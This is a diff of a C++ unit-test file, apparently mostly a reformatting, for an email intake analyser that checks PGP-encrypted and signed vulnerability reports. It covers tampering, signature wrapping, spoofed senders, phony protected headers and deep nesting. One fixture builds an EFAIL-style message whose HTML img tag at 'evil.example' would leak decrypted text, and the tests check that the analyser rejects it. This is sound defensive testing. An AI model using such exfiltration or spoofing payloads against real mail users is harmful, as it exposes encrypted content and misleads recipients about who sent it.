@@ -2,9 +2,8 @@
 // PGP/MIME and inline, signed and encrypted, tampered, unprotected, wrong key, mixed content,
 // signature wrapping, identity tricks, protected headers, limits and garbage.
 #define BOOST_TEST_MODULE intake_analysis
-#include <boost/test/unit_test.hpp>
-
 #include <algorithm>
+#include <boost/test/unit_test.hpp>
 
 #include "core/clock.h"
 #include "crypto/compose.h"
@@ -52,7 +51,8 @@ bool has_flag(const intake::analysis& a, const std::string& f) {
 }
 
 // A report as a reporter's mail client would send it (compose() is RFC 3156 and checked by notmuch in T620).
-std::string report(bool encrypt, const std::string& body = "Nova leaks " + canary + "\n", bool attach = false) {
+std::string report(bool encrypt, const std::string& body = "Nova leaks " + canary + "\n",
+                   bool attach = false) {
   crypto::outgoing m;
   m.from = {"Rita Reporter", "reporter@example.net"};
   m.to = {{"VMT", "security@example.org"}};
@@ -67,8 +67,10 @@ std::string report(bool encrypt, const std::string& body = "Nova leaks " + canar
 }
 
 std::string headers(const std::string& from = "Rita Reporter <reporter@example.net>") {
-  return "From: " + from + "\r\nTo: security@example.org\r\nSubject: report\r\nMessage-ID: <x1@example.net>\r\n"
-         "Date: " + clock::rfc5322_date(clock::now()) + "\r\nMIME-Version: 1.0\r\n";
+  return "From: " + from +
+         "\r\nTo: security@example.org\r\nSubject: report\r\nMessage-ID: <x1@example.net>\r\n"
+         "Date: " +
+         clock::rfc5322_date(clock::now()) + "\r\nMIME-Version: 1.0\r\n";
 }
 
 // multipart/encrypted around an (armored or binary) OpenPGP message.
@@ -77,7 +79,8 @@ std::string pgp_mime(const std::string& cipher, bool base64 = false) {
          "Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"E\"\r\n\r\n"
          "--E\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--E\r\n"
          "Content-Type: application/octet-stream\r\n" +
-         (base64 ? "Content-Transfer-Encoding: base64\r\n\r\n" + message::base64_encode(cipher) : "\r\n" + cipher) +
+         (base64 ? "Content-Transfer-Encoding: base64\r\n\r\n" + message::base64_encode(cipher)
+                 : "\r\n" + cipher) +
          "\r\n--E--\r\n";
 }
 
@@ -108,7 +111,8 @@ BOOST_AUTO_TEST_CASE(pgp_mime_encrypted_and_signed_report) {
   BOOST_TEST(a.attachments[0].is_signed);
   BOOST_TEST(a.subject == "Heap overflow in nova");  // protected header; the outer one is "..."
   BOOST_TEST(has_flag(a, "protected-subject"));
-  BOOST_TEST(std::all_of(a.parts.begin(), a.parts.end(), [](const auto& p) { return p.encrypted && p.is_signed; }));
+  BOOST_TEST(
+      std::all_of(a.parts.begin(), a.parts.end(), [](const auto& p) { return p.encrypted && p.is_signed; }));
   // The verdict carries no text: neither the body nor the names of encrypted files.
   std::string v = intake::verdict_json(a);
   BOOST_TEST(v.find(canary) == std::string::npos);
@@ -170,7 +174,8 @@ BOOST_AUTO_TEST_CASE(bad_and_unknown_signatures) {
 }
 
 BOOST_AUTO_TEST_CASE(inline_pgp_encrypted_signed_and_partial) {
-  std::string cipher = w().reporter.gpg("-a -s -e -r " + w().team.fpr + " --trust-model always", canary + "\n");
+  std::string cipher =
+      w().reporter.gpg("-a -s -e -r " + w().team.fpr + " --trust-model always", canary + "\n");
   auto e = run(headers() + "Content-Type: text/plain\r\n\r\n" + message::to_crlf(cipher));
   BOOST_TEST(e.encrypted);
   BOOST_TEST(intake::to_string(e.signature.status) == "valid");
@@ -184,13 +189,14 @@ BOOST_AUTO_TEST_CASE(inline_pgp_encrypted_signed_and_partial) {
   BOOST_TEST(c.body.find("signed statement") != std::string::npos);
 
   // Unsigned text before a signed block: the signature covers only the block.
-  auto p = run(headers() + "Content-Type: text/plain\r\n\r\nJohnny, you are fired!\r\n\r\n" + message::to_crlf(clear));
+  auto p = run(headers() + "Content-Type: text/plain\r\n\r\nJohnny, you are fired!\r\n\r\n" +
+               message::to_crlf(clear));
   BOOST_TEST(intake::to_string(p.signature.status) == "partial");
   BOOST_TEST(!p.signature.matches_from);
 
   // Unencrypted text around an encrypted block: mixed, the text kept apart from the report.
-  auto m = run(headers() + "Content-Type: text/plain\r\n\r\nPlease reply quoting:\r\n" + message::to_crlf(cipher) +
-               "\r\nsuffix text\r\n");
+  auto m = run(headers() + "Content-Type: text/plain\r\n\r\nPlease reply quoting:\r\n" +
+               message::to_crlf(cipher) + "\r\nsuffix text\r\n");
   BOOST_TEST(!m.encrypted);
   BOOST_TEST(m.mixed);
   BOOST_TEST(m.body == canary + "\n");
@@ -198,13 +204,15 @@ BOOST_AUTO_TEST_CASE(inline_pgp_encrypted_signed_and_partial) {
   BOOST_TEST(m.body.find("Please reply") == std::string::npos);
 
   // Two blocks: never merged into one encrypted report.
-  auto two = run(headers() + "Content-Type: text/plain\r\n\r\n" + message::to_crlf(cipher) + message::to_crlf(cipher));
+  auto two = run(headers() + "Content-Type: text/plain\r\n\r\n" + message::to_crlf(cipher) +
+                 message::to_crlf(cipher));
   BOOST_TEST(!two.encrypted);
   BOOST_TEST(two.body == canary + "\n");
 }
 
 BOOST_AUTO_TEST_CASE(tampered_unprotected_and_undecryptable_ciphertexts_are_quarantined) {
-  std::string bin = w().reporter.gpg("-e -r " + w().team.fpr + " --trust-model always", std::string(3000, 'x') + canary);
+  std::string bin =
+      w().reporter.gpg("-e -r " + w().team.fpr + " --trust-model always", std::string(3000, 'x') + canary);
   bin[bin.size() - 40] ^= 0x01;
   auto t = run(pgp_mime(bin, true));
   BOOST_TEST(!t.readable);
@@ -212,7 +220,8 @@ BOOST_AUTO_TEST_CASE(tampered_unprotected_and_undecryptable_ciphertexts_are_quar
   BOOST_TEST(intake::to_string(t.decrypt) == "integrity");
   BOOST_TEST(t.body.empty());
 
-  std::string nomdc = w().reporter.gpg("-a -e -r " + w().team.fpr + " --trust-model always --rfc2440 --cipher-algo CAST5", canary);
+  std::string nomdc = w().reporter.gpg(
+      "-a -e -r " + w().team.fpr + " --trust-model always --rfc2440 --cipher-algo CAST5", canary);
   auto n = run(pgp_mime(message::to_crlf(nomdc)));
   BOOST_TEST(!n.readable);
   BOOST_TEST(n.quarantine_reason == "integrity");
@@ -227,7 +236,8 @@ BOOST_AUTO_TEST_CASE(tampered_unprotected_and_undecryptable_ciphertexts_are_quar
   BOOST_TEST(k.quarantine_reason == "no-key");
   BOOST_TEST(k.encrypted_to.size() == 1u);
 
-  auto g = run(pgp_mime("-----BEGIN PGP MESSAGE-----\r\n\r\nnot base64 at all\r\n-----END PGP MESSAGE-----\r\n"));
+  auto g =
+      run(pgp_mime("-----BEGIN PGP MESSAGE-----\r\n\r\nnot base64 at all\r\n-----END PGP MESSAGE-----\r\n"));
   BOOST_TEST(!g.readable);
   BOOST_TEST(g.quarantine_reason == "decrypt-failed");
 }
@@ -236,9 +246,10 @@ BOOST_AUTO_TEST_CASE(mixed_content_and_oracle_shapes_are_not_encrypted) {
   std::string enc = report(true);
   std::string enc_entity = entity_of(enc);
   // EFAIL direct exfiltration shape: attacker HTML, then the ciphertext, in multipart/mixed.
-  std::string efail = headers() + "Content-Type: multipart/mixed; boundary=\"M\"\r\n\r\n--M\r\n"
-                      "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n--M\r\n" + enc_entity +
-                      "\r\n--M\r\nContent-Type: text/html\r\n\r\n\">\r\n--M--\r\n";
+  std::string efail = headers() +
+                      "Content-Type: multipart/mixed; boundary=\"M\"\r\n\r\n--M\r\n"
+                      "Content-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n--M\r\n" +
+                      enc_entity + "\r\n--M\r\nContent-Type: text/html\r\n\r\n\">\r\n--M--\r\n";
   auto a = run(efail);
   BOOST_TEST(a.readable);
   BOOST_TEST(!a.encrypted);
@@ -251,8 +262,10 @@ BOOST_AUTO_TEST_CASE(mixed_content_and_oracle_shapes_are_not_encrypted) {
   BOOST_TEST(intake::to_string(a.signature.status) == "partial");
 
   // Old ciphertext forwarded as message/rfc822 inside a new message: not decrypted, not encrypted.
-  std::string fwd = headers() + "Content-Type: multipart/mixed; boundary=\"F\"\r\n\r\n--F\r\n"
-                    "Content-Type: text/plain\r\n\r\nPlease see the bounce.\r\n--F\r\nContent-Type: message/rfc822\r\n\r\n" +
+  std::string fwd = headers() +
+                    "Content-Type: multipart/mixed; boundary=\"F\"\r\n\r\n--F\r\n"
+                    "Content-Type: text/plain\r\n\r\nPlease see the bounce.\r\n--F\r\nContent-Type: "
+                    "message/rfc822\r\n\r\n" +
                     enc + "\r\n--F--\r\n";
   auto f = run(fwd);
   BOOST_TEST(!f.encrypted);
@@ -260,30 +273,38 @@ BOOST_AUTO_TEST_CASE(mixed_content_and_oracle_shapes_are_not_encrypted) {
   BOOST_TEST(f.body.find(canary) == std::string::npos);
 
   // Ciphertext as the only child of an unencrypted multipart: nested, not the message's body.
-  auto n = run(headers() + "Content-Type: multipart/mixed; boundary=\"N\"\r\n\r\n--N\r\n" + enc_entity + "\r\n--N--\r\n");
+  auto n = run(headers() + "Content-Type: multipart/mixed; boundary=\"N\"\r\n\r\n--N\r\n" + enc_entity +
+               "\r\n--N--\r\n");
   BOOST_TEST(!n.encrypted);
   BOOST_TEST(has_flag(n, "nested-encryption"));
 }
 
 BOOST_AUTO_TEST_CASE(signature_wrapping_is_partial) {
   std::string signed_entity = entity_of(report(false));
-  auto a = run(headers() + "Content-Type: multipart/mixed; boundary=\"W\"\r\n\r\n--W\r\nContent-Type: text/plain\r\n\r\n"
-                           "Johnny, you are fired!\r\n--W\r\n" + signed_entity + "\r\n--W--\r\n");
+  auto a = run(headers() +
+               "Content-Type: multipart/mixed; boundary=\"W\"\r\n\r\n--W\r\nContent-Type: text/plain\r\n\r\n"
+               "Johnny, you are fired!\r\n--W\r\n" +
+               signed_entity + "\r\n--W--\r\n");
   BOOST_TEST(intake::to_string(a.signature.status) == "partial");
   BOOST_TEST(!a.signature.matches_from);
   BOOST_TEST(has_flag(a, "partially-signed"));
-  auto signed_parts = std::count_if(a.parts.begin(), a.parts.end(), [](const auto& p) { return p.is_signed; });
+  auto signed_parts =
+      std::count_if(a.parts.begin(), a.parts.end(), [](const auto& p) { return p.is_signed; });
   BOOST_TEST(signed_parts >= 1);
   BOOST_TEST(signed_parts < static_cast<long>(a.parts.size()));
 
   // A multipart/signed whose signature part was stripped: never valid.
-  auto s = run(headers() + "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=\"S\"\r\n\r\n"
-                           "--S\r\nContent-Type: text/plain\r\n\r\nhello\r\n--S--\r\n");
+  auto s =
+      run(headers() +
+          "Content-Type: multipart/signed; protocol=\"application/pgp-signature\"; boundary=\"S\"\r\n\r\n"
+          "--S\r\nContent-Type: text/plain\r\n\r\nhello\r\n--S--\r\n");
   BOOST_TEST(intake::to_string(s.signature.status) == "bad");
   // S/MIME is not verified: unsigned, never a crash.
-  auto sm = run(headers() + "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=\"P\"\r\n\r\n"
-                            "--P\r\nContent-Type: text/plain\r\n\r\nhello\r\n--P\r\nContent-Type: application/pkcs7-signature\r\n"
-                            "Content-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHAqCAMIACAQEx\r\n--P--\r\n");
+  auto sm = run(
+      headers() +
+      "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=\"P\"\r\n\r\n"
+      "--P\r\nContent-Type: text/plain\r\n\r\nhello\r\n--P\r\nContent-Type: application/pkcs7-signature\r\n"
+      "Content-Transfer-Encoding: base64\r\n\r\nMIAGCSqGSIb3DQEHAqCAMIACAQEx\r\n--P--\r\n");
   BOOST_TEST(intake::to_string(sm.signature.status) == "none");
   BOOST_TEST(sm.readable);
 }
@@ -311,7 +332,7 @@ BOOST_AUTO_TEST_CASE(signer_identity_must_match_the_single_from) {
   BOOST_TEST(has_flag(two, "multiple-from-mailboxes"));
 
   auto name = run(swap_from("From: \"boss@example.net\" <reporter@example.net>"));
-  BOOST_TEST(name.signature.matches_from);  // the addr-spec is the signer's...
+  BOOST_TEST(name.signature.matches_from);             // the addr-spec is the signer's...
   BOOST_TEST(has_flag(name, "display-name-address"));  // ...but the name reads like someone else
 
   auto missing = run(swap_from("X-No-From: x"));
@@ -325,12 +346,13 @@ BOOST_AUTO_TEST_CASE(signer_identity_must_match_the_single_from) {
 
 BOOST_AUTO_TEST_CASE(protected_headers_only_from_a_decrypted_payload) {
   // Cleartext "protected" headers next to nothing encrypted: ignored.
-  auto phony = run(headers() + "Content-Type: text/plain; protected-headers=\"v1\"\r\nSubject: phony\r\n\r\nhello\r\n");
+  auto phony = run(headers() +
+                   "Content-Type: text/plain; protected-headers=\"v1\"\r\nSubject: phony\r\n\r\nhello\r\n");
   BOOST_TEST(phony.subject == "report");
   BOOST_TEST(!has_flag(phony, "protected-headers"));
   // Inside a nested (not whole) ciphertext: ignored too.
-  auto nested = run(headers() + "Content-Type: multipart/mixed; boundary=\"N\"\r\n\r\n--N\r\n" + entity_of(report(true)) +
-                    "\r\n--N--\r\n");
+  auto nested = run(headers() + "Content-Type: multipart/mixed; boundary=\"N\"\r\n\r\n--N\r\n" +
+                    entity_of(report(true)) + "\r\n--N--\r\n");
   BOOST_TEST(nested.subject == "report");
   BOOST_TEST(!has_flag(nested, "protected-subject"));
 }
@@ -351,7 +373,9 @@ BOOST_AUTO_TEST_CASE(limits_garbage_and_hostile_structure) {
   BOOST_TEST(run("").quarantine_reason == "garbage");
 
   std::string deep = headers();
-  for (int i = 0; i < 3000; ++i) deep += "Content-Type: multipart/mixed; boundary=\"d" + std::to_string(i) + "\"\r\n\r\n--d" + std::to_string(i) + "\r\n";
+  for (int i = 0; i < 3000; ++i)
+    deep += "Content-Type: multipart/mixed; boundary=\"d" + std::to_string(i) + "\"\r\n\r\n--d" +
+            std::to_string(i) + "\r\n";
   auto d = run(deep);
   BOOST_TEST(has_flag(d, "limits-reached"));
 
